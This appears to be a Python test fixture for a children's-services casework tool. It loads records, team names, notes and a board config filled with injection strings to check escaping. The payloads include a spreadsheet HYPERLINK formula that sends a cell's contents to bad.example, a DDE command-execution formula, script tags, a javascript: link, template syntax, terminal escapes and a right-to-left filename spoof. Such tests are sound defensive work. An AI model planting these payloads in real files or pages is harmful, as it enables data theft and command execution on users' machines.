"""An authority whose every text is out to be obeyed: formulas, markup, escapes, in names, teams and notes."""

from __future__ import annotations

from pathlib import Path

from caseworkbench.loading.load import load
from caseworkbench.notes.entry import Said
from caseworkbench.settings import Settings
from caseworkbench.workbench.open import open_workbench
from caseworkbench.workbench.workbench import Workbench

FORMULA = '=HYPERLINK("http://bad.example/?"&A1,"see")'
SCRIPT = "<script>alert('x')</script>"
MARKUP = "[b]bold[/b] {{ 7*7 }} *star* | bar"
ESCAPE = "\x1b[31mred\x07"
TURNED = "abc\u202etxt.exe"
EXTRACTS = {
    "children": f"""\
child_id,forename,surname,date_of_birth,family_id
=C1,"{FORMULA.replace('"', '""')}",Marlowe,2010-03-04,<b>F1</b>
@C2,{SCRIPT},Quill,2012-05-06,F2
C3,{ESCAPE},{TURNED},2014-01-02,F3
C4,{MARKUP},Tallow,2015-01-02,F4
""",
    "teams": f"""\
team,service
+Team <i>1</i>,"{FORMULA.replace('"', '""')}"
{MARKUP},Front Door
""",
    "section47s": f"""\
s47_id,child_id,start_date,end_date,icpc_required,team,worker
S1,=C1,2018-08-21,,Y,+Team <i>1</i>,=W1
S2,@C2,2018-08-21,,Y,+Team <i>1</i>,<W2>
S3,C3,2018-09-10,,Y,{MARKUP},W3
S4,C4,2018-09-03,,Y,{MARKUP},W3
""",
    "initial_conferences": """\
conference_id,child_id,s47_id,held_date,transfer_in
I1,=C1,S1,2018-09-12,N
I2,@C2,S2,2018-09-17,N
""",
}
COMMENT = f"{FORMULA}\n{SCRIPT} {MARKUP}\n{ESCAPE}"
NOTE = f"Ada Marlowe's mother rang: {SCRIPT}"
BOARD = """
title = "=1+1 <b>Board</b>"
[[line]]
measure = "icpc"
title = "=cmd|' /C calc'!A0"
section = "<u>Section</u>"
limit = 15
[[line]]
measure = "return_interview"
title = "https://bad.example/ [x](javascript:alert(1))"
"""


def hostile(place: Path) -> Workbench:
    """The authority's store, with comments and notes as hostile as its names."""
    folder = place / "extracts"
    folder.mkdir()
    for table, text in EXTRACTS.items():
        (folder / f"{table}.csv").write_text(text, encoding="utf-8")
    (place / "boards").mkdir()
    (place / "boards" / "bad.toml").write_text(BOARD, encoding="utf-8")
    settings = Settings(authority="=Northbridge & <Sons>", board="bad", board_folders=(place / "boards",))
    import datetime as dt

    load([folder], place / "store", settings=settings, as_at=dt.date(2018, 9, 30))
    workbench = open_workbench(place / "store", settings)
    measure = workbench.measure("icpc").counted_with(15)
    workbench.noting.write_comment(measure, workbench.as_at, Said(note=COMMENT, action=FORMULA, judged="2"))
    cases = workbench.cases("icpc", limit=15).columns["case"]
    workbench.noting.write(cases, Said(reason="late_notification", note=NOTE, owner="=W9", action="@SUM(1)"))
    return workbench
